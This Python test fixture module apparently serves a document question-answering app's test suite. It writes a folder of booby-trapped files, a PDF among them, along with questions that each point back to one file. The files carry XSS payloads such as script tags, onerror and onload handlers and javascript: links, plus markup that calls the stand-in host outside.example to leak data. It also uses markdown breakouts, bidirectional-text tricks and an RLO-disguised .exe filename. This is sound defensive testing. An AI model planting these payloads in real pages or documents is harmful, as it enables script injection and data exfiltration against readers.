"""Documents that attack whoever reads them: markup, exfiltration, breakouts, misleading characters.

Each attack sets `window.hacked` to its name or calls a host by its name, so that a failure tells
which one worked. Knows texts and file names; nothing of pages.
"""

from tests.test_loaders_pdf import pdf_file, typed

OUTSIDE = "http://outside.example"


def sets(name):
    """Write the script of an attack."""
    return f"window.hacked='{name}'"


def markup(name):
    """Write markup that attacks as soon as it is part of a page."""
    return f"<img src=x onerror={sets(name)}>"


SCRIPTS = (
    f'<script>{sets("script")}</script><img src=x onerror="{sets("onerror")}">'
    f"<svg onload={sets('svg')}><details open ontoggle={sets('toggle')}>"
    f'<iframe srcdoc="<script>parent.{sets("srcdoc")}</script>">'
)
IMAGES = (
    f"![p]({OUTSIDE}/markdown-image?leak) <img src={OUTSIDE}/image> "
    f"<video poster={OUTSIDE}/poster> <link rel=stylesheet href={OUTSIDE}/sheet>"
)
LINKS = (
    f"[here](javascript:{sets('link')}) [page](data:text/html,x) <{OUTSIDE}/autolink> "
    f'<a autofocus onfocus={sets("focus")} href="javascript:{sets("href")}">there</a>'
)
STYLES = (
    f"<meta http-equiv=refresh content=0;url={OUTSIDE}/refresh><base href={OUTSIDE}/base/>"
    f"<style>@import url({OUTSIDE}/import);body{{background:url({OUTSIDE}/url)}}</style>"
)
BREAKOUT = (
    "the plan below\n# Hall\n\t<b>tab</b>\n    <b>indented</b>\n| a | b |\n|---|---|\n```\n"
    f"> no quotation\n- item\n</div></blockquote>\n[1]: {OUTSIDE}/reference"
)
TURNED = "37 \u202eserteM\u202c and \u2067no\u2069 \u2066one\u200b cl\u200dimbs\u2060 it"
ENTITIES = "&lt;img src=x&gt; &amp;quot; &#60;b&#62; \\<i\\> `code` $$x$$ __i18n__{x} :smile:"

TEXTS = {
    "copier.txt": f"The password of the copier is {SCRIPTS}",
    "printer.txt": f"The location of the printer is {IMAGES}",
    "canteen.txt": f"The menu of the canteen is {LINKS}",
    "parking.txt": f"The fee for parking is {STYLES}",
    "hall.txt": f"The colours of the hall are in {BREAKOUT}",
    "tower.txt": f"The height of the tower is {TURNED}",
    "cellar.txt": f"The label in the cellar reads {ENTITIES}",
    "archive.txt": "The archive holds " + "x" * 12_000 + " the key of the vault.",
    f"{markup('name')}.txt": "The gate is opened by the caretaker of the school.",
    f"bike]({OUTSIDE[5:].replace('/', ':')}) \"on\" 'it' **b** `c`.txt": (
        "The bicycle shed is locked at eight in the evening."
    ),
    "lift\n\n# Heading\n> quoted.txt": "The lift is inspected every March by an engineer.",
    "boiler \u202etxt.exe.txt": "The boiler is serviced by a firm from Veenrade.",
    "allotment.md": (
        f"# `</div>{markup('heading')}`\n\n## Who waters the `{markup('question')}` garden?\n\n"
        "The garden is watered by volunteers on Tuesday evenings.\n"
    ),
    "title.html": (
        f"<title>&lt;script&gt;{sets('title')}&lt;/script&gt; ]({OUTSIDE}/title) "
        f'"onmouseover={sets("over")}" {"endless " * 2000}</title>'
        "<p>The flag is raised by the youngest member of the council."
    ),
}
PDF = pdf_file(
    typed("The pool is heated to 29 degrees by <img src=x onerror=alert\\(1\\)> panels."),
    title=f"Pool {markup('pdf-title')} plan",
)
COUNT = len(TEXTS) + 1

QUESTIONS = {
    "What is the password of the copier?": SCRIPTS,
    "What is the location of the printer?": IMAGES,
    "What is the menu of the canteen?": LINKS,
    "What is the fee for parking?": STYLES,
    "Where are the colours of the hall?": BREAKOUT,
    "What is the height of the tower?": TURNED,
    "What does the label in the cellar read?": ENTITIES,
    "Who opens the gate of the school?": "opened by the caretaker",
    "When is the bicycle shed locked?": "locked at eight",
    "When is the lift inspected?": "every March",
    "Who services the boiler?": "a firm from Veenrade",
    "Who waters the garden?": "watered by volunteers",
    "Who raises the flag?": "the youngest member",
    "How warm is the pool?": "29 degrees by <img",
}
"""Each finds its own document, in which this stands."""


def write_hostile(folder):
    """Write the documents into a folder."""
    folder.mkdir()
    for name, text in TEXTS.items():
        (folder / name).write_text(text, "utf-8")
    (folder / "pool.pdf").write_bytes(PDF)
